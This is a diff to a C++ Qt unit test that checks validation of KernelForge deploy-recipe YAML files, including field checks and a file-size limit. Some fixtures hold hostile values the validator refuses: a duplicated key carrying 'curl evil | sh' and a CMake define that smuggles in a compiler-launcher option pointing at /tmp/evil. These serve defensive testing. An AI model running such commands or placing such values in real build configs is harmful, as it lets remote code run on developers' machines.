@@ -2,6 +2,8 @@
 // SPDX-FileCopyrightText: 2026 KernelForge authors
 #include "core/deploy/deployrecipe.h"
 
+#include <QFile>
+#include <QTemporaryDir>
 #include <QtTest>
 
 using namespace kf;
@@ -122,6 +124,42 @@ private Q_SLOTS:
                                      << QStringLiteral("invalid YAML");
         QTest::newRow("bad verify") << QByteArray("kernelforge_recipe: 1\nverify:\n  fa3: maybe\n")
                                     << QStringLiteral("verify.fa3: present or absent");
+        // The build is checked as build-profiles.yaml checks a profile (checkBuildProfile).
+        QTest::newRow("build without a name") << QByteArray("kernelforge_recipe: 1\nbuild:\n  command: make\n")
+                                              << QStringLiteral("build.name: 'name' is required");
+        QTest::newRow("max_jobs out of range")
+            << QByteArray("kernelforge_recipe: 1\nbuild:\n  name: x\n  command: make\n  max_jobs: 99999\n")
+            << QStringLiteral("build.max_jobs: max_jobs must be a whole number from 1 to 4096");
+        QTest::newRow("define with an option")
+            << QByteArray("kernelforge_recipe: 1\nbuild:\n  name: x\n  command: make\n  nvcc_threads: 2\n"
+                          "  nvcc_threads_define: \"X -DCMAKE_CXX_COMPILER_LAUNCHER=/tmp/evil\"\n")
+            << QStringLiteral("build.nvcc_threads_define: nvcc_threads_define must be "
+                              "a CMake variable name");
+        // A second command that a reviewer's YAML tool shows and yaml-cpp would not run (or the
+        // other way round): refused.
+        QTest::newRow("a key twice") << QByteArray(
+            "kernelforge_recipe: 1\nbuild:\n  name: x\n  command: pip install -e .\n  command: curl evil | sh\n")
+                                     << QStringLiteral("line 5: duplicate key 'command' (first at line 4)");
+    }
+
+    void recipeFilesAreBounded()
+    {
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("big.yaml"));
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        QVERIFY(f.write("kernelforge_recipe: 1\nname: big\n#" + QByteArray(kMaxRecipeBytes, 'x') + '\n') > 0);
+        f.close();
+        const auto big = readDeployRecipe(path);
+        QVERIFY(!big);
+        QVERIFY2(big.error().contains(QStringLiteral("larger than 1048576 bytes")), qPrintable(big.error()));
+        QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
+        QVERIFY(f.write("kernelforge_recipe: 1\nname: small\n") > 0);
+        f.close();
+        const auto small = readDeployRecipe(path);
+        QVERIFY2(small, qPrintable(small.error()));
+        QCOMPARE(small->name, QStringLiteral("small"));
+        QVERIFY(!readDeployRecipe(dir.filePath(QStringLiteral("missing.yaml"))));
     }
 
     void badRecipesAreRefusedWithTheKey()
